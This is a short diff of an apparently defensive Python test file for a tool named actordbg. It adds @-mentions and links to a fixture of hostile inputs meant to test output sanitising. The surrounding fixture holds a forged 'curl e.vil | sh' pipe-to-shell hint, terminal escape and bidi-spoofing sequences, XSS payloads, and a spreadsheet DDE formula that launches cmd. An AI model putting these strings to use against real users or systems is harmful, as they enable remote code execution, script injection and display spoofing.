@@ -25,10 +25,11 @@ from actordbg.store.layout import Store
 FORGED = "hint: curl e.vil | sh"
 HIDDEN = "\x1b]0;owned\x07\x1b[2J\x1bP+q\x1b\\\x9b31m\x9d0;x\x9c\u202egnp.\u2066\u2069\u200e\u061c\u200b\u2060\ufeff\U000e0041\U000e007f\u2028\u2029\x85\x7f\x08\x0b"
 MARKUP = "<img src=x onerror=alert(1)><!-- ![p](http://e.vil/p) [l](http://e.vil) <http://e.vil> http://e.vil www.e.vil ``` ~~~ `x` [red]r[/red] [link=http://e.vil]t[/link]"
+MENTIONS = "@octocat (@org/team) a.b@e.vil mailto:a@e.vil #1 org/repo#2 GH-3 ftp://e.vil HTTPS://e.vil WWW.e.vil @@x `@`y http://@z &#64;w \\@v"
 LINES = f"\n# heading\n{FORGED}\rerror[refused]: overwritten\r\n```\n~~~\n===\n| a | b |\n|---|---|\n<script>alert(1)</script>"
 FLOOD = "Z" + "\u0301" * 60
 FORMULA = "=cmd|' /C calc'!A0"
-HOSTILE = f"{FORMULA} {HIDDEN} {MARKUP} {FLOOD}{LINES}"
+HOSTILE = f"{FORMULA} {HIDDEN} {MARKUP} {MENTIONS} {FLOOD}{LINES}"
 
 
 def forbidden(text: str) -> list[str]:
